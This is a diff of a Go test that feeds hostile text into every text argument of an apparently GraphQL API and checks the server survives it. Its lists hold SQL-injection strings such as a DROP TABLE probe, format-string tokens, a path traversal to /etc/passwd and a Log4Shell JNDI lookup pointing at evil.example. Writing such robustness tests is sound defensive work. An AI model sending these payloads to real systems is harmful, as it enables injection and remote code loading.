@@ -65,27 +65,33 @@ func TestArguments_RefusesWrongValuesOfEveryArgument(t *testing.T) {
 }
 
 // TestArguments_SurviveHostileText puts text that databases, logs and templates may trip over into every argument and
-// input field that takes text, of the caller's own objects. Text that is not UTF-8 never reaches an argument.
+// input field that takes text, of the caller's own objects. Text that is not UTF-8 never reaches an argument. On
+// PostgreSQL the quick suite tries what a statement may trip over.
 func TestArguments_SurviveHostileText(t *testing.T) {
 	t.Parallel()
-	texts := []string{
-		`\u0000`, `\u0001\u001f\u007f\u0085\u2028`, `' OR '1'='1' -- `, `\"; DROP TABLE links; -- `,
-		`%s%n%00 {{.}} ${jndi:ldap://evil.example/}`, `../../../../etc/passwd`, `\ufeff\u202e`, `Local`, `? ?0 ?1`, ` `,
+	inStatements := []string{`\u0000`, `' OR '1'='1' -- `, `? ?0 ?1`}
+	anywhere := slices.Concat(inStatements, []string{
+		`\u0001\u001f\u007f\u0085\u2028`, `\"; DROP TABLE links; -- `,
+		`%s%n%00 {{.}} ${jndi:ldap://evil.example/}`, `../../../../etc/passwd`, `\ufeff\u202e`, `Local`, ` `,
 		`https://example.com/ ' OR 1=1 --`, strings.Repeat("x", 100_000),
-	}
-	schema := gen.NewExecutableSchema(gen.Config{}).Schema()
-	cases := everyArgument(schema, func(_ *ast.Type, d *ast.Definition) map[string]wrongValue {
-		all := map[string]wrongValue{}
-		if slices.Contains([]string{"String", "ID", "URL", "EmailAddress", "Time"}, d.Name) {
-			all["nothing"] = wrongValue{value: json.RawMessage(`""`)}
-			for _, text := range texts {
-				all[text[:min(len(text), 20)]] = wrongValue{value: json.RawMessage(`"` + text + argumentMarker + `"`)}
-			}
-		}
-		return all
 	})
+	schema := gen.NewExecutableSchema(gen.Config{}).Schema()
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
-		b := setup(t, dbtest.Migrated(t, d))
+		texts := anywhere
+		if d.Kind == db.Postgres {
+			texts = suitetest.Size(inStatements, anywhere)
+		}
+		cases := everyArgument(schema, func(_ *ast.Type, d *ast.Definition) map[string]wrongValue {
+			all := map[string]wrongValue{}
+			if slices.Contains([]string{"String", "ID", "URL", "EmailAddress", "Time"}, d.Name) {
+				all["nothing"] = wrongValue{value: json.RawMessage(`""`)}
+				for _, text := range texts {
+					all[text[:min(len(text), 20)]] = wrongValue{value: json.RawMessage(`"` + text + argumentMarker + `"`)}
+				}
+			}
+			return all
+		})
+		b := setup(t, d)
 		ada := b.person(t, "ada")
 		own := b.link(t, ada, "https://example.com/").ID
 		asked := 0
@@ -106,7 +112,7 @@ func TestArguments_SurviveHostileText(t *testing.T) {
 				t.Errorf("%s: %d %.300s\n%.500s", c.name, r.status, r.text, body)
 			}
 		}
-		if asked < 1000 {
+		if asked < 80*len(texts) {
 			t.Errorf("only %d cases", asked)
 		}
 		if b.ask(t, ada.token, `query ($x: ID!) { link(by: {id: $x}) { id } }`, "x", own).text != `{"data":{"link":{"id":"`+own+`"}}}` {
